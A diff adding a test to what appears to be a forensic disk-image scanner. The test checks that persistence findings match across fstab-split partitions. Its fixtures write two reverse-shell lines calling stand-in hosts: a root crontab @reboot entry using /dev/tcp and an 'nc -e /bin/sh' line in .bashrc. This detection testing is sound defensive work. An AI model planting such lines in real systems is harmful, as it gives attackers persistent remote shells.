@@ -613,3 +613,61 @@ def test_ext_partition_of_a_dd_image_is_read_in_place_not_copied(tmp_path: Path,
     with open_image(image, Limits(max_total_bytes=2 * MIB)) as opened:
         assert "etc/rc.local" in opened.entries
     assert copies == []
+
+
+def test_partitions_mounted_by_fstab_are_scanned_where_the_system_sees_them(tmp_path: Path, planted_tree: Path) -> None:
+    full = tmp_path / "full"
+    shutil.copytree(planted_tree, full, symlinks=True)
+    # Persistence that path-aware checks only see at its system path: /var/spool/cron, ~/.bashrc
+    (full / "var/spool/cron/crontabs").mkdir(parents=True)
+    (full / "var/spool/cron/crontabs/root").write_text("@reboot /bin/bash -c 'sh -i >& /dev/tcp/203.0.113.50/443 0>&1'\n")
+    (full / "home/cms").mkdir(parents=True)
+    (full / "home/cms/.bashrc").write_text("alias ll='ls -l'\n(nc -e /bin/sh 203.0.113.51 8443 &) 2>/dev/null\n")
+    (full / "boot/efi/EFI/debian").mkdir(parents=True)
+    (full / "boot/efi/EFI/debian/grub.cfg").write_text(GRUB_CFG)
+    (full / "etc/fstab").write_text(
+        "# <file system> <mount point> <type> <options> <dump> <pass>\n"
+        "UUID=0b7c6c4e-1d1a-4f5e-9a57-3c2b9e6f0a11 /  ext4 errors=remount-ro 0 1\n"
+        "UUID=ABCD-1234  /boot/efi  vfat  umask=0077  0  1\n"
+        "UUID=\"5f3e2d1c-0b9a-4877-8665-544332211000\" /home ext4 defaults 0 2\n"
+        "LABEL=cmsvar /var ext4 defaults 0 2\n"
+        "/dev/sda5 none swap sw 0 0\n"
+    )
+    on_dir = scan_image(full, workers=1)
+
+    split = tmp_path / "split"
+    root_tree, home_tree, var_tree, esp_tree = (split / n for n in ("root", "home", "var", "esp"))
+    shutil.copytree(full, root_tree, symlinks=True)
+    shutil.move(root_tree / "home", home_tree)
+    shutil.move(root_tree / "var", var_tree)
+    shutil.move(root_tree / "boot/efi", esp_tree)
+    for d in ("home", "var", "boot/efi"):
+        (root_tree / d).mkdir()
+    mke2fs = _which("mke2fs")
+    esp = tmp_path / "esp.img"
+    subprocess.run(["truncate", "-s", "34M", str(esp)], check=True)
+    subprocess.run([_which("mkfs.vfat"), "-F", "32", "-i", "ABCD1234", str(esp)], check=True, stdout=subprocess.DEVNULL)
+    subprocess.run([_which("mcopy"), "-s", "-i", str(esp), str(esp_tree / "EFI"), "::/"], check=True,
+                   env={**os.environ, "MTOOLS_SKIP_CHECK": "1"})
+    images = {}
+    for name, tree, extra in (("root", root_tree, ["-U", "0b7c6c4e-1d1a-4f5e-9a57-3c2b9e6f0a11"]),
+                              ("home", home_tree, ["-U", "5f3e2d1c-0b9a-4877-8665-544332211000"]),
+                              ("var", var_tree, ["-L", "cmsvar"])):
+        images[name] = tmp_path / f"{name}.img"
+        subprocess.run([mke2fs, "-q", "-F", "-t", "ext4", *extra, "-d", str(tree), str(images[name]), "24M"], check=True)
+    disk = _disk(tmp_path / "disk.raw", "gpt", [(esp, 34, ESP), (images["root"], 24, LINUX), (images["home"], 24, LINUX),
+                                                (images["var"], 24, LINUX)])
+    on_disk = scan_image(disk, workers=1)
+
+    def system_keys(result: ScanResult) -> set[tuple[str, str, str]]:
+        return {(r, sev, p.split(":/", 1)[1] if ":/" in p else p) for r, sev, p in _keys(result)}
+
+    assert system_keys(on_disk) == system_keys(on_dir)
+    paths = {(f.category, f.evidence[0].path) for f in on_disk.findings}
+    assert ("persistence", "p4:/var/spool/cron/crontabs/root") in paths
+    assert ("persistence", "p3:/home/cms/.bashrc") in paths
+    assert any(p == "p1:/boot/efi/EFI/debian/grub.cfg" for _, p in paths)
+    assert on_disk.warnings[0] == ("disk (GPT, raw): scanned p1 fat (mounted at /boot/efi) at byte 1048576, p2 ext (root) at "
+                                   "byte 36700160, p3 ext (mounted at /home) at byte 61865984, p4 ext (mounted at /var) at "
+                                   "byte 87031808")
+    assert {f.id for f in on_disk.findings} == {f.id for f in on_dir.findings}  # the same system, the same ids
